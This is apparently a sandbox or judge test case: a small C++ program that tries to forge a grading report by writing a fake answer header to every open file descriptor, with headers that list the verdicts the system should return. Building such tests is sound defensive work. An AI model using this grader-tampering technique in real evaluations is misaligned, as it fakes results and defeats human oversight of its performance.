// A32: finds the pipe of the answers and writes to it.
// Tries: report forged
// Base: right
// Expect: PV|RE|WL
// Seconds: 120

#include <unistd.h>
#include <cstring>
static void attack() {
    char answer[64] = {};
    std::memcpy(answer, "DLW1\x10", 5);
    for (int descriptor = 0; descriptor < 64; ++descriptor)
        if (descriptor != 2)
            if (write(descriptor, answer, sizeof answer) < 0) continue;
}
